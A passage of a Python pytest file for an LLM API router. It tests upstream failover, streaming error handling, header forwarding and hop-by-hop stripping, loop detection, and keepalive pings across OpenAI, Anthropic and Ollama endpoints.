        for turn in (1, 2):
            assert post_chat(router, "pair", stream=True).text == "You said: hi"
            assert len(silent.requests_for("m")) == (turn if how == "error" else 1)
        (state,) = [one for one in get_document(router, "/api/upstreams") if one["name"] == "one"]
    if how != "error":
        assert AFTER_NOTHING[how][1] in state["last_error"] and state["failures"] == 1


@pytest.mark.parametrize("pair", [False, True])
def test_the_last_one_that_says_nothing(pair: bool) -> None:
    """An only server's answer passes as it is; the last one of two is no answer, and says so."""
    steps = silent_steps(CHAT, [b""])
    with Upstream(lambda received: steps) as silent:
        instances = ["one/m", "two/m"] if pair else ["one/m"]
        routes = {
            "servers": {"one": silent.url, "two": f"{silent.url}/2"},
            "aliases": {"alias": {"instances": instances}},
        }
        with Router({}, routes) as router:
            got = post_chat(router, "alias", stream=True, stream_options={"include_usage": True})
    if not pair:
        assert (got.status, got.whole) == (200, True)
        assert got.content == b"".join(encode_events(CHAT, SAY_NOTHING[CHAT]))
        return
    assert got.status == 502
    assert got.json["error"]["message"].count("it ended before it said anything") == 2


def test_so_much_of_nothing_is_an_answer_for_its_client() -> None:
    pings = b": ping\n\n" * 10_000
    first = upstream_playing(*stream_response([pings], whole=False), HANG)()
    with router_of_two(first, refusing_url()) as router, connect(router.port) as sock:
        sock.sendall(encode_post(CHAT, chat_document("pair", stream=True)))
        assert read_until(sock, b": ping\n\n")


@pytest.mark.parametrize("path", [CHAT, "/api/chat"])
def test_an_answer_begins_with_what_it_says_first(path: str) -> None:
    """Not with a ping or a role: the phase, the time to the first token, Ollama's durations."""
    gate = threading.Event()

    def script(received: Received) -> Iterator[Step]:
        yield from stream_response(encode_events(CHAT, SAY_NOTHING[CHAT]), whole=False)
        gate.wait(PATIENCE)
        yield from encode_chunks(*map(encode_event, [text_delta("Hi"), FINISH]))

    router = default_router()
    model = default_upstream().add_script(script)
    with connect(router.port) as sock:
        document = {**EXAMPLE_REQUESTS[path], "model": model, "stream": True}
        sock.sendall(encode_post(path, document))
        if path == CHAT:
            # The client of an only server gets all of it at once.
            read_until(sock, b"prompt_progress")
        running = wait_until(
            lambda: [
                one
                for one in get_document(router, "/api/inflight")
                if one["original_model"] == model and (one["bytes"] or path != CHAT)
            ]
        )
        began = time.monotonic()
        assert get_document(router, "/api/inflight")
        waited_ms = (time.monotonic() - began) * 1000
        gate.set()
        end = read_until(sock, b"0\r\n\r\n")
    assert [one["phase"] for one in running] == ["waiting"]
    row = wait_for_row(router, model)
    assert row["ttft_ms"] >= waited_ms
    if path == "/api/chat":
        durations = re.search(rb'"prompt_eval_duration":(\d+)', end)
        assert int(durations[1]) / 1e6 >= waited_ms


def test_words_before_an_error_in_a_stream_are_not_lost() -> None:
    """The first instance has begun to answer; that the second one would fail is not known."""
    words = encode_event(text_delta("Hello"))
    trouble = encode_event({"error": {"message": "no memory"}})
    first = upstream_playing(*stream_response([words + trouble]))
    with router_of_two(first(), refusing_url()) as router:
        got = post_chat(router, "pair", stream=True)
    assert got.content == words + trouble
    role = encode_event({"choices": [{"index": 0, "delta": {"role": "assistant", "content": ""}}]})
    second = upstream_playing(*stream_response([role + trouble]))
    with router_of_two(second(), Upstream().url) as router:
        assert post_chat(router, "pair", stream=True).text == "You said: hi"


def test_a_last_answer_with_an_error_inside_passes_as_it_is() -> None:
    """So does that of an only server; its words are in the row."""
    content = b'{"error" :  "Unexpected endpoint"}'
    script = upstream_playing(*whole_response(content, kind="application/json"))
    with router_of_two(refusing_url(), script()) as router:
        got = post_chat(router, "pair")
        row = wait_for_row(router, "pair")
    assert (got.status, got.content) == (200, content)
    assert row["error_message"] == "Unexpected endpoint"


def test_nobody_answered() -> None:
    assert router_of_failures().port
    ways = [ALL_WAYS.index((CHAT, True)), ALL_WAYS.index(("/api/chat", False))]
    asked = list(itertools.product(NOBODY, ways))
    answers = map_in_threads(ask_failing, *zip(*asked, strict=True), workers=len(asked))
    for (name, way), got in zip(asked, answers, strict=True):
        failures, status, reason = NOBODY[name]
        assert (name, got.status) == (name, status), got
        error = got.json["error"]
        if way == ways[0]:
            assert set(error) == {"message", "type", "code", "param"}
            error = error["message"]
        assert reason in error
        # Each attempt is named in the error.
        for turn, kind in enumerate(failures):
            assert f"{name} {way} {turn}/{kind}" in error


def test_never_a_second_answer_after_a_first_byte() -> None:
    for path, stream, got in in_all_ways("half a stream"):
        if stream:
            assert b"Hello" in got.content and b"You said" not in got.content, path
            assert got.documents[-1]["error"]
            assert b"[DONE]" not in got.content and b'"done":true' not in got.content


def test_never_half_an_answer_and_a_whole_one() -> None:
    for path, stream, got in in_all_ways("half a content"):
        assert not (b"Hello" in got.content and b"You said" in got.content), path
        assert is_visibly_broken(got) or (got.status, got.whole) == (200, True), (
            path,
            stream,
        )


@pytest.mark.parametrize("version", ["1.0", "1.1"])
@pytest.mark.parametrize("stream", [False, True])
def test_no_event_stands_inside_of_what_broke_off(stream: bool, version: str) -> None:
    """What is too long to be kept leaves as it comes, and ends where it broke off."""
    settings = {"DEFAULT_UPSTREAM": default_upstream().url}
    router = shared_router(settings, limits={"buffered_answer": 99, "buffered_event": 99})
    media_type = "text/event-stream" if stream else "application/json"
    begun = b"data: " * stream + b'{"choices":[{"message":{"content":"' + b"x" * 200
    name = default_upstream().add_script(
        [*stream_response([begun], kind=media_type, whole=False), CLOSE]
    )
    encoded = encode_post(CHAT, chat_document(name, stream=stream), version=version)
    content = b""
    with connect(router.port) as sock, contextlib.suppress(ConnectionResetError):
        sock.sendall(encoded)
        while piece := sock.recv(4096):
            content += piece
    assert begun in content
    assert b"error" not in content and not content.endswith(b"0\r\n\r\n")


@pytest.mark.parametrize("stream", [False, True])
def test_last_answer_passes_through_byte_for_byte(stream: bool) -> None:
    content = '{ "error" : {"message":"später", "code" : 4.290 } }\n'.encode()
    fields = [("Retry-After", "17"), ("X-Odd", "a;b")]
    last = upstream_playing(
        *whole_response(content, 429, fields, "application/json; charset=utf-8")
    )
    with router_of_two(upstream_failing(503)(), last()) as router:
        got = post_chat(router, "pair", stream=stream)
    assert (got.status, got.content) == (429, content)
    assert (got.get("Retry-After"), got.get("X-Odd")) == ("17", "a;b")
    assert got.get("Content-Type") == "application/json; charset=utf-8"


def test_last_answer_is_the_last_one_that_was_http() -> None:
    with router_of_two(upstream_failing(418, ("Retry-After", "5"))(), refusing_url()) as router:
        got = post_chat(router, "pair")
        assert (got.status, got.get("Retry-After")) == (418, "5")
        assert got.json == {"error": {"message": "no: 418"}}
        document = example_request("/api/chat", "pair", True)
        got = request(router.port, "POST", "/api/chat", document)
        assert (got.status, got.get("Retry-After")) == (418, "5")
        assert got.json["error"]


# Answers that are HTTP, and end before they have said anything.
CUT_SHORT: dict[str, tuple[Step, ...]] = {
    "no content": (*whole_response(b""),),
    "500 and cut": (b"HTTP/1.1 500 Oops\r\nContent-Length: 9\r\n\r\n", CLOSE),
    "an empty stream": (*stream_response([]),),
}


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("name", CUT_SHORT)
def test_head_and_content_are_of_one_answer(name: str, stream: bool) -> None:
    """The last good HTTP answer is the first one's; nothing of the second comes with it."""
    first = upstream_failing(503, ("Retry-After", "7"))()
    with router_of_two(first, upstream_playing(*CUT_SHORT[name])()) as router:
        got = post_chat(router, "pair", stream=stream)
    assert (got.status, got.get("Retry-After"), got.whole) == (503, "7", True)
    assert got.json == {"error": {"message": "no: 503"}}
    assert got.get("X-SmolRouter-Attempts") == "2"


SHORT_STREAMS = {
    "no empty line": encode_chunks(encode_event(FINISH)[:-1]),
    "closed": (encode_event(FINISH)[:-1], CLOSE),
    "CR alone": encode_chunks(encode_event(FINISH).replace(b"\n", b"\r")),
    "gzip": encode_chunks(gzip.compress(encode_event(FINISH))),
}


@pytest.mark.parametrize("name", SHORT_STREAMS)
def test_a_short_stream_with_a_clean_end_is_an_answer(name: str) -> None:
    fields = [("Content-Type", "text/event-stream"), ("Transfer-Encoding", "chunked")]
    fields = fields[: 1 if name == "closed" else 2]
    if name == "gzip":
        fields.append(("Content-Encoding", "gzip"))
    first = upstream_playing(response_head(200, fields), *SHORT_STREAMS[name])()
    with router_of_two(first, refusing_url()) as router:
        got = post_chat(router, "pair", stream=True)
        assert (got.status, got.whole, got.get("X-SmolRouter-Attempts")) == (200, True, "1")
        assert got.content


@pytest.mark.parametrize("said", [b'data: {"id', b": hi\n", b"\n"])
def test_a_part_of_an_event_is_no_answer(said: bytes) -> None:
    fields = [("Content-Type", "text/event-stream"), ("Transfer-Encoding", "chunked")]
    first = upstream_playing(response_head(200, fields), *encode_chunks(said))()
    with router_of_two(first, upstream_playing(*sse_response([FINISH, "[DONE]"]))()) as router:
        got = post_chat(router, "pair", stream=True)
        assert (got.status, got.whole, got.get("X-SmolRouter-Attempts")) == (200, True, "2")


@pytest.mark.parametrize("status", [301, 400, 404, 418, 422, 429, 500, 503])
@pytest.mark.parametrize("stream", [False, True])
def test_single_candidate_passes_through_untouched(status: int, stream: bool) -> None:
    content = b'{"detail" :  "<think>what it said</think>"}\n'
    fields = [("Retry-After", "3"), ("Location", "/elsewhere")]
    model = default_upstream().add_script(
        whole_response(content, status, fields, "application/json")
    )
    # The only instance is never left out, whatever it answered before.
    for turn in (1, 2):
        got = post_chat(default_router(), model, stream=stream)
        assert (got.status, got.content) == (status, content)
        assert got.get("Retry-After") == "3"
        assert len(default_upstream().requests_for(model)) == turn


def test_client_leaves_and_nobody_else_is_asked() -> None:
    with (
        Upstream(lambda r: [HANG]) as one,
        Upstream() as two,
        router_of_two(one.url, two.url) as router,
    ):
        with connect(router.port) as sock:
            sock.sendall(encode_post(CHAT, chat_document("pair")))
            seen = one.connection_of("m")
        assert wait_until(lambda: seen.closed)
        time.sleep(0.1)
        assert not two.requests_for("m")


# --- fields ---------------------------------------------------------------------------


def test_fields_that_travel_to_the_upstream() -> None:
    name = default_upstream().add_script(FINE_RESPONSE)
    travels = [
        ("Authorization", "Bearer sk-123"),
        ("OpenAI-Organization", "org-1"),
        ("Cookie", "a=b; c=d"),
        ("traceparent", "00-1-2-01"),
        ("X-Multi", "one"),
        ("User-Agent", "test/1"),
        ("X-Multi", "two"),
        ("X-Empty", ""),
        ("X-Latin", "caf\xe9"),
    ]
    request(default_router().port, "POST", CHAT, chat_document(name), travels)
    (heard,) = default_upstream().requests_for(name)
    for key, _ in travels:
        assert heard.get_all(key) == [v for n, v in travels if n == key], key
    assert heard.get_all("Host") == [default_upstream().authority]
    assert heard.get("Content-Type") == "application/json"


def test_hop_by_hop_fields_stop_here_on_the_way_up() -> None:
    name = default_upstream().add_script(FINE_RESPONSE)
    stops = [
        ("Connection", ", X-Private ,,keep-alive"),
        ("Connection", "X-SECOND"),
        ("X-Private", "1"),
        ("X-Second", "2"),
        ("Keep-Alive", "timeout=5"),
        ("TE", "trailers"),
        ("Trailer", "X-Late"),
        ("Upgrade", "h2c"),
        ("Proxy-Connection", "keep-alive"),
    ]
    request(default_router().port, "POST", CHAT, chat_document(name), stops)
    (heard,) = default_upstream().requests_for(name)
    for key, _ in stops[2:]:
        assert heard.get(key) is None, key
    assert "x-private" not in (heard.get("Connection") or "").lower()


@pytest.mark.parametrize("named", ["Content-Length", "Host", "Content-Type", "Via"])
def test_connection_cannot_break_the_framing(named: str) -> None:
    name = default_upstream().add_script(FINE_RESPONSE)
    got = request(default_router().port, "POST", CHAT, chat_document(name), [("Connection", named)])
    assert got.status == 200
    (heard,) = default_upstream().requests_for(name)
    assert heard.json["model"] == name
    assert heard.get_all("Host") == [default_upstream().authority]
    assert "smolrouter" in (heard.get("Via") or "")


@pytest.mark.parametrize("stream", [False, True])
def test_fields_of_an_answer(stream: bool) -> None:
    fields = [
        ("Set-Cookie", "a=1"),
        ("Set-Cookie", "b=2"),
        ("X-RateLimit-Remaining", "9"),
        ("Connection", "X-Private, ,"),
        ("X-Private", "1"),
        ("Keep-Alive", "timeout=9"),
        ("Proxy-Connection", "close"),
        ("Upgrade", "h2c"),
        ("Server", "test"),
    ]
    steps = (
        sse_response([{"n": 1}, "[DONE]"], fields=fields)
        if stream
        else (json_response({"n": 1}, fields=fields))
    )
    got = post_chat(default_router(), default_upstream().add_script(steps), stream=stream)
    assert got.get_all("Set-Cookie") == ["a=1", "b=2"]
    assert got.get("X-RateLimit-Remaining") == "9"
    for key in ("X-Private", "Keep-Alive", "Proxy-Connection", "Upgrade"):
        assert got.get(key) is None, key
    for key in ("Request-Id", "Upstream", "Model", "Route", "Attempts"):
        assert got.get(f"X-SmolRouter-{key}"), key
    if stream:
        assert got.get("Cache-Control") == "no-cache, no-transform"
        assert got.get("X-Accel-Buffering") == "no"


def test_via_is_added_to_the_others() -> None:
    name = default_upstream().add_script(FINE_RESPONSE)
    request(default_router().port, "POST", CHAT, chat_document(name), [("Via", "1.0 fred")])
    (heard,) = default_upstream().requests_for(name)
    assert re.fullmatch(r"1\.0 fred, 1\.1 smolrouter\S*.*", ", ".join(heard.get_all("Via")))


def test_a_request_that_comes_round_again_is_answered_508() -> None:
    def round_again(received: Received) -> Iterable[Step]:
        kept = [(n, v) for n, v in received.fields if n in ("Via", "Content-Type")]
        port = default_router().port
        got = request(port, "POST", received.target, received.content, kept)
        return whole_response(got.content, got.status)

    name = default_upstream().add_script(round_again)
    got = post_chat(default_router(), name)
    assert got.status == 508
    assert "error" in got.json
    assert len(default_upstream().requests_for(name)) == 1


def test_via_of_another_smolrouter_is_no_loop() -> None:
    name = default_upstream().add_script(FINE_RESPONSE)
    via = [("Via", "1.1 smolrouter, 1.1 smolrouter-0000, 1.1 other")]
    assert request(default_router().port, "POST", CHAT, chat_document(name), via).status == 200


def test_accept_encoding_is_identity_where_content_may_change() -> None:
    name = default_upstream().add_script(FINE_RESPONSE)
    fields = [("Accept-Encoding", "gzip, deflate, br")]
    request(default_router().port, "POST", CHAT, chat_document(name), fields)
    assert default_upstream().requests_for(name)[0].get_all("Accept-Encoding") == ["identity"]


@each_openai
def test_openai_answer_tells_how_it_was_routed(sdk: Sdk) -> None:
    got = sdk.call(
        sdk_router().url,
        "chat.completions.with_raw_response.create",
        model="alias-talk",
        messages=HELLO_MESSAGES,
    )
    for name in ("Request-Id", "Upstream", "Model", "Route", "Attempts"):
        assert got.headers.get(f"X-SmolRouter-{name}"), name
    assert got.parse().choices[0].message.content == HELLO_ANSWER


# --- signs of life --------------------------------------------------------------------
# The router looks often whether a client has heard nothing for a short time. What a server waits
# for in these tests is that its client has got so many signs of life.

PINGS: dict[str, re.Pattern[bytes]] = {
    CHAT: re.compile(rb": ping\n\n"),
    "/v1/completions": re.compile(rb": ping\n\n"),
    RESPONSES: re.compile(rb": ping\n\n"),
    ANTHROPIC: re.compile(rb'event: ping\ndata: \{"type": "ping"\}\n\n'),
    "/api/chat": re.compile(
        rb'\{"model":"[^"]+","created_at":"[^"]+Z",'
        rb'"message":\{"role":"assistant","content":""\},"done":false\}\n'
    ),
    "/api/generate": re.compile(
        rb'\{"model":"[^"]+","created_at":"[^"]+Z","response":"","done":false\}\n'
    ),
}  # fmt: skip
PING_SETTINGS = {"PING_INTERVAL": 0.05}
PING_LIMITS = {"deadline_interval": 0.02, "buffered_event": 2000}


@functools.lru_cache
def ping_upstream() -> Upstream:
    """Return the upstream behind `ping_router()`, and behind each of its aliases."""
    return Upstream()


@functools.lru_cache
def ping_router() -> Router:
    """Return a router with signs of life, and with aliases that `add_pair` gives scripts to."""
    servers = {"s": ping_upstream().url, "off": refusing_url()}
    aliases = {}
    for number in range(40):
        instances = [f"s/first-{number}", f"s/second-{number}"]
        aliases[f"pair-{number}"] = {"instances": instances}
        aliases[f"pair-off-{number}"] = {"instances": [f"s/first-off-{number}", "off/m"]}
    return shared_router(
        {**PING_SETTINGS, "DEFAULT_UPSTREAM": ping_upstream().url},
        {"servers": servers, "aliases": aliases},
        limits=PING_LIMITS,
    )


PAIR_NUMBERS = itertools.count()


def sent_octets(model: str) -> int:
    """Return how much the client of the running request for a model has got so far."""
    running = get_document(ping_router(), "/api/inflight")
    return sum(one["bytes"] for one in running if one["original_model"] == model)


def wait_for_pings(model: str, count: int) -> None:
    """Wait until the client of the running request for a model has got more so many times."""
    seen = [sent_octets(model)]

    def is_enough() -> bool:
        octets = sent_octets(model)
        if octets != seen[-1]:
            seen.append(octets)
        return len(seen) > count

    wait_until(is_enough)


def script_after_pings(
    steps: Iterable[Step], before: Iterable[Step] = (), count: int = 3
) -> Script:
    """Say what comes before, wait until the client has got signs of life, and say these steps."""

    def script(received: Received) -> Iterator[Step]:
        yield from before
        # Of an alias the router calls its instances `first-7`.
        model = re.sub("first|second", "pair", received.model)
        wait_for_pings(model, count)
        yield from steps

    return script


def add_pair(first: Script, second: Script | None = None) -> str:
    """Give two scripts to an alias of `ping_router()`, one to one with a dead server behind it."""
    number = next(PAIR_NUMBERS)
    if second is None:
        ping_upstream().scripts[f"first-off-{number}"] = first
        return f"pair-off-{number}"
    ping_upstream().scripts[f"first-{number}"] = first
    ping_upstream().scripts[f"second-{number}"] = second
    return f"pair-{number}"


def post_stream(path: str, model: str, **more: Any) -> Response:
    """Ask `ping_router()` for a stream."""
    document = {**EXAMPLE_REQUESTS.get(path, EXAMPLE_REQUESTS[CHAT]), "stream": True}
    return request(ping_router().port, "POST", path, {**document, "model": model, **more})


def without_pings(path: str, content: bytes) -> tuple[int, bytes]:
    """Return how many signs of life there are in a content, and what else there is."""
    rest, count = PINGS[path].subn(b"", content)
    return count, rest


WORDS_OF: dict[str, list[Any]] = {
    CHAT: [*chat_stream("Hello ", "you")],
    "/v1/completions": [{"choices": [{"index": 0, "text": "Hello", "finish_reason": "stop"}]}],
    RESPONSES: [
        {"type": "response.output_text.delta", "delta": "Hello"},
        {"type": "response.completed", "response": {"output": []}},
    ],
    ANTHROPIC: [
        {"type": "content_block_delta", "delta": {"type": "text_delta", "text": "Hello"}},
        {"type": "message_stop"},
    ],
}


@pytest.mark.parametrize("path", PINGS)
def test_signs_of_life(path: str) -> None:
    spoken = path if path in WORDS_OF else CHAT
    steps = sse_response(WORDS_OF[spoken])
    model = ping_upstream().add_script(script_after_pings(steps))
    got = post_stream(path, model)
    assert (got.status, got.whole, got.get("Content-Type")) == (200, True, event_type(path))
    assert got.get("Cache-Control") == "no-cache, no-transform"
    assert got.get("X-SmolRouter-Request-Id")
    count, rest = without_pings(path, got.content)
    assert count >= 2
    # Before the answer, and nowhere else.
    assert PINGS[path].match(got.content)
    if spoken == path:
        assert rest == b"".join(map(encode_event, WORDS_OF[path]))
    else:
        assert got.text == "Hello you" and got.documents[-1]["done"] is True
    row = wait_for_row(ping_router(), model)
    assert (row["status_code"], row["error_message"]) == (200, None)
    # The head and the signs of life are not the first token.
    assert row["ttft_ms"] >= 50


@pytest.mark.parametrize("path", [CHAT, "/api/chat"])
def test_signs_of_life_while_thinking_is_taken_out(path: str) -> None:
    begin = [*chat_stream()[:1], *map(encode_event, text_deltas("Well: <think>", "Hm, "))]
    before = stream_response(begin, [("X-Own", "1")], whole=False)
    after = encode_chunks(*map(encode_event, text_deltas("hm</think>", "yes")), RAW_STOP)
    model = ping_upstream().add_script(script_after_pings(after, before))
    got = post_stream(path, model)
    assert (got.whole, got.text, got.get("X-Own")) == (True, "Well: yes", "1")
    first, _, rest = got.content.partition(b"Well: ")
    assert without_pings(path, first)[0] == 0
    assert without_pings(path, rest)[0] >= 2


def test_signs_of_life_after_the_head_keep_the_fields_of_the_answer() -> None:
    before = stream_response([], [("X-Own", "1")], whole=False)
    model = ping_upstream().add_script(script_after_pings(encode_chunks(RAW_STOP), before))
    got = post_stream(CHAT, model)
    assert (got.get("X-Own"), got.get("X-SmolRouter-Attempts")) == ("1", "1")
    count, rest = without_pings(CHAT, got.content)
    assert count >= 2 and rest == RAW_STOP


PINGED_FAILURES: dict[str, list[Step]] = {
    "cut": [DROP],
    "pings and cut": [*stream_response([b": first\n\n"], whole=False), 0.1, DROP],
    "503": json_response({"error": {"message": "first"}}, 503),
    "error in an event": sse_response([{"error": {"message": "first"}}]),
    "error in a document": json_response({"error": "first"}),
    "empty": stream_response([]),
}


@pytest.mark.parametrize("failure", PINGED_FAILURES)
@pytest.mark.parametrize("path", [CHAT, "/api/chat"])
def test_failover_behind_signs_of_life(path: str, failure: str) -> None:
    second = stream_response([b": second\n\n", *chat_stream("Hello ", "you")])
    alias = add_pair(script_after_pings(PINGED_FAILURES[failure]), lambda received: second)
    got = post_stream(path, alias)
    assert (got.status, got.whole, got.text) == (200, True, "Hello you")
    count, rest = without_pings(path, got.content)
    assert count >= 2 and b"first" not in rest
    # The server's own signs of life pass where its events do.
    assert (b": second" in rest) == (path == CHAT)
    detail = wait_for_detail(ping_router(), alias)
    assert (detail["status_code"], detail["error_message"]) == (200, None)
    assert [bool(one["error"]) for one in detail["attempts"]] == [True, False]


LAST_ERRORS: dict[str, tuple[Script | None, int, str]] = {
    # The last server cannot be reached; it says no in words; in its own protocol's; as a page.
    "refused": (None, 502, "connection refused"),
    "words": (lambda r: json_response({"error": {"message": "no\nway", "n": 1}}, 429), 429, "way"),
    "page": (lambda r: whole_response(b"<title>no way</title>", 500), 500, "no way"),
    "no JSON": (lambda r: whole_response(b"<title>hello</title>"), 502, "hello"),
    "unknown coding": (
        lambda r: sse_response(["x"], fields=[("Content-Encoding", "br")]), 502, "'br'"),
}  # fmt: skip


@pytest.mark.parametrize("error", LAST_ERRORS)
@pytest.mark.parametrize("path", [CHAT, ANTHROPIC, "/api/chat"])
def test_a_last_error_behind_signs_of_life(path: str, error: str) -> None:
    script, status, words = LAST_ERRORS[error]
    alias = add_pair(script_after_pings([DROP]), script)
    got = post_stream(path, alias)
    assert (got.status, got.whole) == (200, True)
    count, rest = without_pings(path, got.content)
    assert count >= 2
    if path == ANTHROPIC:
        assert rest.startswith(b"event: error\ndata: ")
    (document,) = dataclasses.replace(got, content=rest.removeprefix(b"event: error\n")).documents
    details = document["error"]
    if path == "/api/chat":
        assert words in details and set(document) == {"error"}
    else:
        assert words in details["message"]
    if path == CHAT and error == "words":
        # What the server said stays as it is.
        assert rest == encode_event({"error": {"message": "no\nway", "n": 1}})
    if path == ANTHROPIC and error != "words":
        assert (document["type"], details["type"]) == ("error", "api_error")
    row = wait_for_row(ping_router(), alias)
    assert row["status_code"] == status and words in row["error_message"]


@pytest.mark.parametrize("path", [CHAT, ANTHROPIC, "/api/chat"])
def test_a_whole_answer_behind_signs_of_life_is_one_event(path: str) -> None:
    document = completion({}, "<think>Hm</think>Hello")
    if path == ANTHROPIC:
        words = [{"type": "text", "text": "<think>Hm</think>Hello"}]
        document = {"id": "cmpl-1", "type": "message", "content": words, "stop_reason": "end_turn"}
    content = json.dumps(document, indent=1).encode()
    script = script_after_pings(whole_response(content, kind="application/json"))
    for model in (ping_upstream().add_script(script), add_pair(script, script)):
        got = post_stream(path, model)
        count, rest = without_pings(path, got.content)
        assert (got.status, got.whole) == (200, True) and count >= 2
        (event,) = dataclasses.replace(got, content=rest).documents
        assert event["done"] is True if path == "/api/chat" else event["id"] == document["id"]
        if path == ANTHROPIC:
            assert event["content"] == [{"type": "text", "text": "Hello"}]
        else:
            assert visible_text(event) == "Hello"


@contextlib.contextmanager
def waiting_client(path: str, model: str, **more: Any) -> Iterator[socket.socket]:
    """Send a request to `ping_router()` and give its socket, which is not read from."""
    with connect(ping_router().port) as sock:
        document = {**EXAMPLE_REQUESTS[path], "model": model, **more}
        sock.sendall(encode_post(path, document))
        ping_upstream().connection_of(model)
        yield sock


def wait_for_pings_of_another() -> None:
    """Wait until another client has got signs of life: so long a time has gone by."""
    with waiting_client(CHAT, ping_upstream().add_script([HANG]), stream=True) as sock:
        read_until(sock, *[b": ping\n\n"] * 5)


def test_no_sign_of_life_inside_an_event() -> None:
    """Also where an event is too long to be waited for, and so given out in part."""
    gates = [threading.Event(), threading.Event()]
    half = b'data: {"choices":[{"delta":{"content":"' + b"x" * 3000

    def script(received: Received) -> Iterator[Step]:
        yield from stream_response([half[:-1]], whole=False)
        gates[0].wait(PATIENCE)
        yield from encode_chunks(b'y"}}]}\n', end=b"")
        gates[1].wait(PATIENCE)
        yield from encode_chunks(b"\n" + RAW_STOP)

    with waiting_client(CHAT, ping_upstream().add_script(script), stream=True) as sock:
        read_until(sock, b"xxx")
        for gate in gates:
            wait_for_pings_of_another()
            gate.set()
        data = read_until(sock, b"stop", b"0\r\n\r\n")
    assert b"ping" not in data


def test_who_gets_no_signs_of_life() -> None:
    hanging = ping_upstream().add_script([HANG])
    with contextlib.ExitStack() as stack:
        clients = [
            stack.enter_context(waiting_client(CHAT, hanging)),
            stack.enter_context(waiting_client("/api/chat", hanging, stream=False)),
            stack.enter_context(waiting_client("/v1/embeddings", hanging, stream=True)),
            stack.enter_context(waiting_client("/api/embed", hanging)),
            # An error of an only server passes as it is, however slowly it comes.
            stack.enter_context(
                waiting_client(
                    CHAT,
                    ping_upstream().add_script(
                        [response_head(500, [("Content-Length", "9")]), HANG]
                    ),
                    stream=True,
                )
            ),
        ]
        wait_for_pings_of_another()
        for number, sock in enumerate(clients):
            sock.setblocking(False)
            with pytest.raises(BlockingIOError):
                sock.recv(1)
                pytest.fail(f"client {number} got something")


def test_signs_of_life_can_be_switched_off() -> None:
    with Upstream(lambda received: [HANG]) as upstream:
        settings = {"DEFAULT_UPSTREAM": upstream.url, "PING_INTERVAL": 0}
        router = shared_router(settings, limits=PING_LIMITS)
        with connect(router.port) as sock:
            sock.sendall(encode_post(CHAT, chat_document("m", stream=True)))
            upstream.connection_of("m")
            wait_for_pings_of_another()
            sock.setblocking(False)
            with pytest.raises(BlockingIOError):
                sock.recv(1)


def test_a_client_that_does_not_read_gets_no_signs_of_life() -> None:
    """They would only wait for it; and it has enough to read."""
    event = encode_event(text_delta("x" * 1000))
    begin = stream_response([event * 20_000], whole=False)
    model = ping_upstream().add_script([*begin, HANG])
    with waiting_client(CHAT, model, stream=True):
        seen = [0]

        def is_full() -> bool:
            seen.append(sent_octets(model))
            return seen[-1] == seen[-2] > 0

        wait_until(is_full)
        before = sent_octets(model)
        wait_for_pings_of_another()
        assert sent_octets(model) == before


def test_signs_of_life_for_http_1_0() -> None:
    """As plain nginx speaks it to a server: the answer ends with its connection."""
    script = script_after_pings(stream_response(chat_stream("Hello")))
    document = chat_document(ping_upstream().add_script(script), stream=True)
    data = send_raw(ping_router().port, encode_post(CHAT, document, version="1.0"), answers=0)
    head, _, content = data.partition(b"\r\n\r\n")
    assert b"chunked" not in head.lower()
    count, rest = without_pings(CHAT, content)
    assert count >= 2 and rest == b"".join(chat_stream("Hello"))


def test_a_request_that_is_stopped_behind_signs_of_life() -> None:
    model = ping_upstream().add_script([HANG])
    with waiting_client(CHAT, model, stream=True) as sock:
        read_until(sock, b": ping\n\n")
        (one,) = [
            one
            for one in get_document(ping_router(), "/api/inflight")
            if one["original_model"] == model
        ]
        assert one["phase"] == "waiting"
        request(ping_router().port, "POST", f"/api/inflight/{one['id']}/cancel")
        assert read_until(sock, b'"code":"cancelled"', b"0\r\n\r\n")
    row = wait_for_row(ping_router(), model)
    assert (row["status_code"], row["error_message"]) == (499, "cancelled")


def test_a_client_leaves_behind_signs_of_life() -> None:
    model = ping_upstream().add_script([HANG])
    with waiting_client(CHAT, model, stream=True) as sock:
        read_until(sock, b": ping\n\n")
    assert wait_until(lambda: ping_upstream().connection_of(model).closed)
    assert wait_for_row(ping_router(), model)["status_code"] == 499


@pytest.mark.parametrize("sdk", (*OPENAI_SDKS, *OLLAMA_SDKS), ids=str)
def test_official_clients_wait_as_long_as_there_are_signs_of_life(sdk: Sdk) -> None:
    """The model takes longer than they wait for an octet."""
    sdk = dataclasses.replace(sdk, timeout=1.5)
    # So many signs of life, each 0.05 s after the one before, take longer than that.
    script = script_after_pings(sse_response(chat_stream("Hello ", "you")), count=40)
    model = ping_upstream().add_script(script)
    named = {"model": model, "messages": HELLO_MESSAGES, "stream": True}
    if sdk.package == "openai":
        parts = sdk.call(ping_router().url, "chat.completions.create", **named)
        assert [p.choices[0].delta.content for p in parts if p.choices[0].delta.content] == [
            "Hello ",
            "you",
        ]
    else:
        parts = sdk.call(ping_router().url, "chat", **named)
        assert "".join(part.message.content for part in parts) == "Hello you"
        assert parts[-1].done and len(parts) > 20


@pytest.mark.parametrize("sdk", (*OPENAI_SDKS, *OLLAMA_SDKS), ids=str)
def test_official_clients_see_an_error_behind_signs_of_life(sdk: Sdk) -> None:
    model = ping_upstream().add_script(
        script_after_pings(json_response({"error": {"message": "no memory"}}, 500))
    )
    named = {"model": model, "messages": HELLO_MESSAGES, "stream": True}
    method = "chat.completions.create" if sdk.package == "openai" else "chat"
    error = "APIError" if sdk.package == "openai" else "ResponseError"
    module = import_or_skip(sdk.package)
    with pytest.raises(getattr(module, error), match="no memory"):
        sdk.call(ping_router().url, method, **named)


# --- content that goes on as it comes -------------------------------------------------

BLOB = "/api/blobs/sha256:29fdb92e57cf"
# Longer than all the buffers on the way, those of the kernel too.
LONG_BLOB = bytes(range(256)) * (64 << 10)
BLOB_DONE = response_head(201, [("Content-Length", "0")])


@functools.cache
def blob_listener() -> socket.socket:
    """Return the socket of the Ollama server of `blob_router()`; a test accepts and answers."""
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(PATIENCE)
    return listener


def blob_router(**limits: float) -> Router:
    """Return a router in front of `blob_listener()` that reads no long request itself."""
    port = blob_listener().getsockname()[1]
    # What its listener accepts are uploads, and no question of the router's own.
    server = {"url": f"http://127.0.0.1:{port}", "api": "ollama", "discover": False}
    table = {"servers": {"gpu": server}}
    settings = {"MAX_REQUEST_SIZE": 1000, "DEFAULT_UPSTREAM": refusing_url_of_blobs()}
    return shared_router(settings, table, limits=limits)


@functools.cache
def refusing_url_of_blobs() -> str:
